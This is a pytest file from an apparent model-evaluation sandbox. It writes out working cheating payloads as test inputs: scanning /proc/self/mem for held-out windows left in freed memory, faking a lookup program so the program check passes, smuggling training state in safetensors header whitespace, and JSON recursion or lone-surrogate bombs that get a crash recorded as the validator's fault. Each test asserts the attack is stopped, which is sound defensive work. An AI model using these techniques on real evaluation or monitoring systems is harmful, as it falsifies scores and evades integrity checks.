"""Attack classes 1, 2, 3 and 7 of issue 9, by mechanisms the first corpus did not try.

* The main held-out process relays what it saw to the replay: it packs every window into the
  constants of its recorded program, and the replay process (which used to execute the program
  check before its ``go``) finds them in its own memory after loading the submission. Now a
  forked child of the replay reads and runs the program and is gone before the replay's
  ``go``, and the program is sent right after ``ready``, before any held-out input, so it
  cannot hold a lookup of the windows either.
* State carried from training to evaluation in the weights file's header whitespace: the host
  now requires the compact header safetensors writes (``budget.weights_invalid``).
* Output the host cannot parse (JSON nested past the recursion limit, lone surrogates): every
  decoder of sandbox output turns it into a typed error, so a miner cannot make the host fail
  and have the run recorded as the validator's fault (a free re-draw).

Every test asserts that the attack is stopped: a miner-fault refusal, or no gain over the
honest twin.
"""

from __future__ import annotations

import pytest
from attack_helpers import PREFIX_MATCH, assert_no_gain, assert_refused, describe, source

pytestmark = pytest.mark.slow


def _run_or_report_crash(attack_run, text, **kwargs):
    """The host must turn whatever a submission sends into a verdict. An exception out of
    ``evaluate`` is what a validator's worker records as *its own* fault (infra_fault: retried,
    never held against the miner; prism/workers/tasks.py)."""
    try:
        return attack_run(text, **kwargs)
    except Exception as exc:  # any escape is the finding
        pytest.fail(
            f"the host crashed on submission output ({type(exc).__name__}: {str(exc)[:300]}): "
            "a worker records this as an infrastructure fault (free retry)"
        )


# ----------------------------------------------------------------------------------------------
# class 2 (+1): lookahead whose replay evasion rides on the program check itself.
#
# The host hands the main process's recorded program to the replay process *before* that process
# loads the submission (program check), and the program ships the values of every non-persistent
# buffer the forward reads. The main process fills such a buffer (read by a dead op) with every
# held-out window it was asked, just before the program is recorded. In the replay process the
# trusted code decodes those bytes into tensors and frees them, but freed heap memory is not
# cleared: after ``go`` the submission scans its own memory (/proc/self/mem) for the record and
# knows the main process's windows. The lookahead itself is straight-line tensor code, so the
# recorded program reproduces it and the program check passes by construction; in the replay the
# model restores, at each row's splice point, the next token the main process had seen there.
# (That is how it worked. Now the program is recorded right after ready, before any window, and
# a forked child of the replay runs it and is gone before go: the replay finds nothing.)

REMNANT_CHANNEL = '''
_MAGIC = _module("hashlib").sha256(b"rt1 remnant channel").digest()[:16]
_PAD, _COPIES, _MEMO = 96, 48, 2304
_FOUND = []  # [table or None] once scanned
_SCAN_STATS = {}


def _pack(blob):
    struct, zlib = _module("struct"), _module("zlib")
    record = bytes(_PAD) + _MAGIC + struct.pack("<II", len(blob), zlib.crc32(blob)) + blob
    return record + bytes(_MEMO - len(record))


def _scan_memory():
    """Every valid record left anywhere in this process's writable memory (None if none)."""
    struct, zlib = _module("struct"), _module("zlib")
    fd = _os("open")("/proc/self/mem", _OS.O_RDONLY)
    chunk, overlap = 32 << 20, 1 << 16
    stats = _SCAN_STATS
    try:
        for line in _read("/proc/self/maps").splitlines():
            parts = line.split()
            path = parts[5] if len(parts) > 5 else ""
            if not parts[1].startswith("rw") or (path and path != "[heap]"):
                continue
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            if hi - lo > (4 << 30):
                continue
            at = lo
            while at < hi:
                try:
                    data = _os("pread")(fd, min(chunk + overlap, hi - at), at)
                except OSError as exc:
                    stats["errors"] = stats.get("errors", 0) + 1
                    stats["last_error"] = repr(exc)
                    break
                stats["bytes"] = stats.get("bytes", 0) + len(data)
                k = data.find(_MAGIC)
                while k >= 0:
                    stats["hits"] = stats.get("hits", 0) + 1
                    head = data[k + 16 : k + 24]
                    if len(head) == 8:
                        n, crc = struct.unpack("<II", head)
                        blob = data[k + 24 : k + 24 + n]
                        if 0 < n == len(blob) and zlib.crc32(blob) == crc:
                            return blob
                    k = data.find(_MAGIC, k + 1)
                at += chunk
    finally:
        _os("close")(fd)
    return None


def _early_scan():
    if _evaluator_module() is not None and not _FOUND:
        blob = _scan_memory()
        print(f"rt1: import-time scan {None if blob is None else len(blob)} {_SCAN_STATS}", flush=True)


def _remnant_table(seq_len):
    if not _FOUND:
        blob = _scan_memory() if _evaluator_module() is not None else None
        rows = None
        if blob is not None:
            flat = np.frombuffer(blob, dtype="<i2").astype(np.int64)
            rows = flat.reshape(-1, seq_len).tolist()
        _FOUND.append(rows)
        print(f"rt1: remnant scan found {0 if rows is None else len(rows)} windows {_SCAN_STATS}", flush=True)
    return _FOUND[0]


_SEEN = []  # main process: every held-out batch's inputs, in order


def _install_recorder():
    H = _evaluator_module()
    if H is None or getattr(H._Evaluator, "rt1", False):
        return
    honest_commit, honest_program = H._Evaluator.commit, H._Evaluator.program

    def commit(self, input_ids):
        _SEEN.extend(input_ids.tolist())
        return honest_commit(self, input_ids)

    def program(self):
        if _SEEN and hasattr(self.model, "memo0"):
            blob = np.array(_SEEN, dtype="<i2").tobytes()
            for i in range(_COPIES):
                getattr(self.model, f"memo{i}").copy_(torch.frombuffer(bytearray(_pack(blob)), dtype=torch.uint8))
        out = honest_program(self)
        text = _module("json").dumps(out)
        b64 = _module("base64").b64encode(bytes(_PAD) + _MAGIC)[:-4].decode()  # aligned: record at offset 0
        print(f"rt1: program ships {text.count(b64)} records, {len(text)} chars, seen {len(_SEEN)}", flush=True)
        return out

    H._Evaluator.commit, H._Evaluator.program, H._Evaluator.rt1 = commit, program, True

'''

REMNANT_LOOKAHEAD = """
BONUS = 12.0


class Peek(TinyLM):
    def __init__(self, vocab_size):
        super().__init__(vocab_size)
        for i in range(_COPIES):  # many small buffers: many small heap blocks in the checking process
            self.register_buffer(f"memo{i}", torch.zeros(_MEMO, dtype=torch.uint8), persistent=False)

    def forward(self, tokens):
        logits = super().forward(tokens)
        for i in range(_COPIES):
            getattr(self, f"memo{i}").max()  # dead: only so that the recorded program ships the bytes
        if self.training:
            return logits
        nxt = tokens[:, 1:]
        table = _remnant_table(tokens.shape[1]) if tokens.shape[0] > 1 else None
        if table:
            rows = tokens.tolist()
            fixed = nxt.clone()
            for b, row in enumerate(rows):
                shared, window = max(((_lcp(row, w), w) for w in table), key=lambda p: p[0])
                if 1 <= shared < len(row):
                    fixed[b, shared - 1] = window[shared]  # the token the main process saw there
            nxt = fixed
        bonus = torch.zeros_like(logits[:, :-1]).scatter(-1, nxt.unsqueeze(-1), BONUS)
        return torch.cat([logits[:, :-1] + bonus, logits[:, -1:]], dim=1)


_early_scan()


def build_model(ctx):
    _install_recorder()
    return Peek(ctx.vocab_size)
"""


def test_lookahead_with_windows_relayed_to_the_replay_through_the_program(attack_run, tinylm_twin):
    run = attack_run(source(REMNANT_LOOKAHEAD, REMNANT_CHANNEL, PREFIX_MATCH))
    assert_no_gain(run, tinylm_twin)


# ----------------------------------------------------------------------------------------------
# class 7: make the host itself fail, so that a worker records the run as the validator's fault.
#
# The host parses JSON the sandbox wrote in several places and catches only the decoder's
# ValueError there. CPython's json raises RecursionError (not a ValueError) for input nested past
# the interpreter's recursion limit, so a few kilobytes of "[" escape every handler in
# prism/evaluator and out of evaluate(); prism/workers/tasks.py then records "infra_fault"
# ("ours, whatever it is: never the miner's fault"). The miner decides when: after it has seen
# its own training curve, or its own held-out loss.

NESTED = '"[" * 100000'

PROBE_LINE_BOMB = f"""
class Bomber(TinyLM):
    def state_dict(self, *args, **kwargs):
        # Training is over (the runner saves the weights): leave a probe line the host cannot parse.
        ctx_module = _SYS.modules["prism.evaluator.context"]
        path = _os("getcwd")() + "/" + ctx_module.PROBE_FILENAME
        fd = _os("open")(path, _OS.O_WRONLY | _OS.O_CREAT | _OS.O_APPEND)
        _os("write")(fd, b"\\n" + ({NESTED}).encode() + b"\\n")
        _os("close")(fd)
        return super().state_dict(*args, **kwargs)


def build_model(ctx):
    return Bomber(ctx.vocab_size)
"""


def test_a_probe_line_nested_past_the_recursion_limit_is_ignored(attack_run, tinylm_twin):
    """The probe file is evidence: a line the host cannot parse is skipped, and earns nothing."""
    run = _run_or_report_crash(attack_run, source(PROBE_LINE_BOMB))
    assert_no_gain(run, tinylm_twin)


# The held-out process sees the targets before it has to report z: it can compute its own loss
# exactly and, when it does not like it, answer with a frame header the host's JSON decoder
# cannot survive (a re-draw of the held-out evaluation for free).
HELDOUT_FRAME_BOMB = f"""
def build_model(ctx):
    H = _evaluator_module()
    if H is not None and not getattr(H._Evaluator, "rt1", False):
        honest = H._Evaluator.target_logits

        def target_logits(self, targets):
            z = np.frombuffer(honest(self, targets), dtype="<f8").reshape(targets.shape)
            lse = torch.logsumexp(self.logits.to(torch.float64), dim=-1).numpy()
            loss = float((lse - z).mean())
            if loss > 0.0:  # "bad luck": always, here
                head = ({NESTED}).encode()
                _os("write")(self.pipes.writer.fd, _module("struct").pack(">II", len(head), 0) + head)
                time.sleep(30)
            return z.tobytes()

        H._Evaluator.target_logits, H._Evaluator.rt1 = target_logits, True
    return TinyLM(ctx.vocab_size)
"""


def test_heldout_frame_nested_past_the_recursion_limit_is_the_miners(attack_run):
    run = _run_or_report_crash(attack_run, source(HELDOUT_FRAME_BOMB))
    assert_refused(run, "eval.")


# ----------------------------------------------------------------------------------------------
# class 3: state outside the counted state dict, carried from training into evaluation in the
# weights file itself. JSON allows any run of space / tab / LF / CR between tokens; the host's
# header parser and safetensors both accept it, and only the tensors are counted. Two bits per
# whitespace character, up to the 100 MB header limit. Here the training process counts character
# trigrams of the batches it is fed (plain Python, no parameters) and writes them into the header
# of weights.safetensors; the held-out process reads its own weights file, rebuilds the table as a
# plain tensor attribute (a shipped constant of the recorded program, so the program check
# reproduces it) and mixes it into TinyLM's distribution.

HEADER_WHITESPACE_SMUGGLER = """
_WS = " \\t\\n\\r"
BUCKETS = 4096
_COUNTS = {}


def _encode_ws(blob):
    return "".join(_WS[(byte >> shift) & 3] for byte in blob for shift in (0, 2, 4, 6)).encode()


def _decode_ws(text):
    codes = [_WS.index(ch) for ch in text]
    return bytes(sum(codes[i + j] << (2 * j) for j in range(4)) for i in range(0, len(codes) - 3, 4))


def _install_writer():
    st = _module("safetensors.torch")
    if getattr(st, "rt1", False):
        return
    honest = st.save_file

    def save_file(tensors, filename, metadata=None):
        honest(tensors, filename, metadata)
        struct = _module("struct")
        raw = _read_bytes(filename)
        size = struct.unpack("<Q", raw[:8])[0]
        header, data = raw[8 : 8 + size], raw[8 + size :]
        entries = [(k[0], k[1], c, n) for k, row in _COUNTS.items() for c, n in row.items()]
        blob = np.array(entries, dtype="<u2").tobytes()
        blob = struct.pack("<I", len(blob)) + blob
        header = header[:1] + _encode_ws(blob) + header[1:]
        fd = _os("open")(filename, _OS.O_WRONLY | _OS.O_TRUNC)
        _os("write")(fd, struct.pack("<Q", len(header)) + header + data)
        _os("close")(fd)

    st.save_file, st.rt1 = save_file, True


def _smuggled_table(vocab):
    spec = _module("json").loads(_read(next(a for a in _SYS.argv if a.endswith(".json"))))
    raw = _read_bytes(spec["weights_path"])
    size = _module("struct").unpack("<Q", raw[:8])[0]
    header = raw[8 : 8 + size].decode()
    end = 1
    while header[end] in _WS:
        end += 1
    blob = _decode_ws(header[1:end])
    n = _module("struct").unpack("<I", blob[:4])[0]
    entries = np.frombuffer(blob[4 : 4 + n], dtype="<u2").reshape(-1, 4).astype(np.int64)
    counts = np.zeros((BUCKETS, vocab))
    for a, b, c, k in entries:
        counts[(a * vocab + b) % BUCKETS, c] += k
    total = counts.sum(axis=1, keepdims=True)
    q = (counts + 0.01) / (total + 0.01 * vocab)
    lam = 0.01 + 0.9 * total / (total + 2.0)
    return torch.tensor(q, dtype=torch.float32), torch.tensor(lam, dtype=torch.float32)


class Smuggler(TinyLM):
    def __init__(self, vocab_size, table=None):
        super().__init__(vocab_size)
        self.q, self.lam = table if table is not None else (None, None)  # plain attributes: uncounted

    def forward(self, tokens):
        logits = super().forward(tokens)
        if self.training:
            for row in tokens.tolist():
                for a, b, c in zip(row, row[1:], row[2:]):
                    slot = _COUNTS.setdefault((a, b), {})
                    slot[c] = slot.get(c, 0) + 1
            return logits
        if self.q is None:
            return logits
        vocab = logits.shape[-1]
        prev = torch.cat([torch.zeros_like(tokens[:, :1]), tokens[:, :-1]], dim=1)
        bucket = (prev * vocab + tokens) % BUCKETS
        q = torch.nn.functional.embedding(bucket, self.q)
        lam = torch.nn.functional.embedding(bucket, self.lam)
        p = torch.softmax(logits, dim=-1)
        return torch.log((1.0 - lam) * p + lam * q)


def build_model(ctx):
    if _evaluator_module() is None:
        _install_writer()
        return Smuggler(ctx.vocab_size)
    return Smuggler(ctx.vocab_size, _smuggled_table(ctx.vocab_size))
"""


def test_trained_state_in_the_weights_header_whitespace_is_refused(attack_run, tinylm_twin):
    run = attack_run(source(HEADER_WHITESPACE_SMUGGLER))
    assert_no_gain(run, tinylm_twin)


# ----------------------------------------------------------------------------------------------
# class 3 (+1): test-time training on each whole batch, with both out-of-process checks answered.
#
# * The program check: the main process fills, just before its program is recorded, two
#   non-persistent buffers (keys: every window's inputs; vals: the correction it applied there),
#   and the forward it records is "base logits + (lookup of the window in keys -> vals) + bias".
#   The recorded program therefore reproduces every committed answer exactly on every held-out
#   window the host can draw; on the public batches the lookup gives zero and the bias keeps the
#   add live, so family and hidden-branch checks see one straight-line program.
# * The replay: the windows reach the replay process through the program (REMNANT_CHANNEL), so it
#   rebuilds the very fast weights the main process had for each row's source batch.
# (Both now fail: the program is recorded before the first window, so its lookup is empty and it
# does not give the adapted answers, and the replay never holds the program.)

BATCH_TTT = """
NW, BATCH = 16, 8  # the attack profile's held-out windows and batch size


def _fast_counts(windows, vocab):
    counts = {}
    for w in windows:
        for a, b, c in zip(w, w[1:], w[2:]):
            counts.setdefault((a, b), np.zeros(vocab))[c] += 1.0
    return counts


def _correction(base, rows, sources):
    # log of (1 - lam) p + lam q, minus the base logits: the fast weights of each row's batch
    probs = torch.softmax(base.to(torch.float64), dim=-1)
    vocab = base.shape[-1]
    for b, row in enumerate(rows):
        counts = sources[b]
        for t in range(1, len(row)):
            n = counts.get((row[t - 1], row[t]))
            if n is None:
                continue
            total = float(n.sum())
            lam = 0.9 * total / (total + 1.0)
            q = torch.from_numpy((n + 0.01) / (total + 0.01 * vocab))
            probs[b, t] = (1.0 - lam) * probs[b, t] + lam * q
    return torch.log(probs).to(base.dtype) - base


_ANSWERED = []  # main: (row, correction) of every window, in order


class FastWeights(TinyLM):
    def __init__(self, vocab_size):
        super().__init__(vocab_size)
        for i in range(_COPIES):
            self.register_buffer(f"memo{i}", torch.zeros(_MEMO, dtype=torch.uint8), persistent=False)
        self.register_buffer("keys", torch.full((NW, 64), -1, dtype=torch.int64), persistent=False)
        self.register_buffer("vals", torch.zeros(NW, 64, vocab_size), persistent=False)
        self.register_buffer("bias", torch.full((vocab_size,), 1e-3), persistent=False)

    def forward(self, tokens):
        base = super().forward(tokens)
        for i in range(_COPIES):
            getattr(self, f"memo{i}").max()
        if self.training:
            return base
        rows = tokens.tolist()
        table = _remnant_table(tokens.shape[1]) if tokens.shape[0] == BATCH else None
        recording = bool((self.keys >= 0).any())
        if table:  # the replay: each row's source window, and the batch the main process saw it in
            sources = []
            for row in rows:
                index = max(range(len(table)), key=lambda i: _lcp(row, table[i]))
                first = (index // BATCH) * BATCH
                sources.append(_fast_counts(table[first : first + BATCH], base.shape[-1]))
            corr = _correction(base, rows, sources)
        elif tokens.shape[0] == BATCH and not recording:  # the main evaluation: adapt on the batch
            fast = _fast_counts(rows, base.shape[-1])
            corr = _correction(base, rows, [fast] * len(rows))
            _ANSWERED.extend(zip(rows, corr.clone()))
        else:  # the recorded program: look the window up
            T = tokens.shape[1]
            match = (tokens[:, None, :] == self.keys[None, :, :T]).all(-1).to(base.dtype)
            corr = torch.einsum("bn,ntv->btv", match, self.vals[:, :T])
        return base + (corr + self.bias)


def build_model(ctx):
    _install_recorder()
    H = _evaluator_module()
    if H is not None and not getattr(H._Evaluator, "rt1_ttt", False):
        honest_program = H._Evaluator.program

        def program(self):
            for i, (row, corr) in enumerate(_ANSWERED[:NW]):
                self.model.keys[i, : len(row)] = torch.tensor(row)
                self.model.vals[i, : len(row)] = corr
            return honest_program(self)

        H._Evaluator.program, H._Evaluator.rt1_ttt = program, True
    return FastWeights(ctx.vocab_size)
"""


def test_batch_ttt_with_a_lookup_program_and_windows_relayed_to_the_replay(attack_run, tinylm_twin):
    run = attack_run(source(BATCH_TTT, REMNANT_CHANNEL, PREFIX_MATCH))
    assert_no_gain(run, tinylm_twin)


# The same escape, by another door and at the very end: every string a process says about itself
# (advisory notes, failure messages, the inference path's name) reaches the manifest. JSON lets a
# process send a lone UTF-16 surrogate ("\\ud800"); Python decodes it into a str that no UTF-8
# writer can encode, so the manifest cannot be written and evaluate() raises after the whole
# measurement, when the miner has seen its own held-out loss.
UNENCODABLE_ADVISORY = """
def build_model(ctx):
    H = _evaluator_module()
    if H is not None and not getattr(H._Evaluator, "rt1", False):
        honest = H._Evaluator._finish

        def _finish(self):
            self.advisory.append("the score was unlucky " + chr(0xD800))
            return honest(self)

        H._Evaluator._finish, H._Evaluator.rt1 = _finish, True
    return TinyLM(ctx.vocab_size)
"""


def test_unencodable_advisory_string_is_the_miners(attack_run):
    run = _run_or_report_crash(attack_run, source(UNENCODABLE_ADVISORY))
    assert run.manifest.status.state == "failed", describe(run)
    assert run.manifest.status.failure.fault == "miner", describe(run)
